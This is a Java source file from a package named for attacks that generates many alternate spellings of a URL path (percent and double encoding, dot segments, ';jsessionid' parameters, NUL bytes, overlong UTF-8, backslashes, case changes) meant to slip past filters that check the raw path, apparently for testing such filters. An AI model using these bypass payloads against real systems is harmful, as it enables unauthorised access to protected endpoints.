package dev.keelson.reference.attack;

import java.util.ArrayList;
import java.util.HexFormat;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;

/**
 * Other spellings of one path, as an attacker writes them to slip past filters that look at the raw path: every
 * character percent-encoded (both hex cases), encoded separators and dots (also double-encoded), doubled slashes,
 * dot segments, {@code ;params}, trailing slashes, case changes, backslashes, overlong UTF-8 and NUL.
 */
final class PathSpellings {
    private PathSpellings() {}

    /** Every spelling of {@code path} (such as {@code /api/v1/orders}) other than itself. */
    static List<String> of(String path) {
        Set<String> spellings = new LinkedHashSet<>();
        for (int i = 0; i < path.length(); i++) {
            String hex = HexFormat.of().toHexDigits((byte) path.charAt(i));
            spellings.add(path.substring(0, i) + "%" + hex + path.substring(i + 1));
            spellings.add(path.substring(0, i) + "%" + hex.toUpperCase(Locale.ROOT) + path.substring(i + 1));
            spellings.add(path.substring(0, i) + "%25" + hex + path.substring(i + 1));
        }
        List<Integer> slashes = new ArrayList<>();
        for (int i = 0; i < path.length(); i++) {
            if (path.charAt(i) == '/') {
                slashes.add(i);
            }
        }
        for (int slash : slashes) {
            String before = path.substring(0, slash);
            String after = path.substring(slash + 1);
            for (String separator : List.of(
                    "//",
                    "/./",
                    "/x/../",
                    "/%2e/",
                    "/%2E%2E/x/",
                    "\\",
                    "%2F",
                    "%2f",
                    "%252F",
                    "%5C",
                    "/;x/",
                    ";x/",
                    ";jsessionid=0/",
                    "%3B/",
                    "/%00/",
                    "%00/",
                    "/%C0%AE/",
                    "%C0%AF",
                    "%E0%80%AF",
                    "/\t/",
                    "/%09/",
                    "/%20/",
                    "/ /")) {
                spellings.add(before + separator + after);
            }
        }
        spellings.add(path + "/");
        spellings.add(path + ";");
        spellings.add(path + ";jsessionid=0");
        spellings.add(path + "%00");
        spellings.add(path + "%3F");
        spellings.add(path + "%23");
        spellings.add(path + "/.");
        spellings.add(path + "/x/..");
        spellings.add(path.toUpperCase(Locale.ROOT));
        spellings.add("/" + path.substring(1, 2).toUpperCase(Locale.ROOT) + path.substring(2));
        spellings.add("http://localhost" + path);
        spellings.remove(path);
        return List.copyOf(spellings);
    }
}
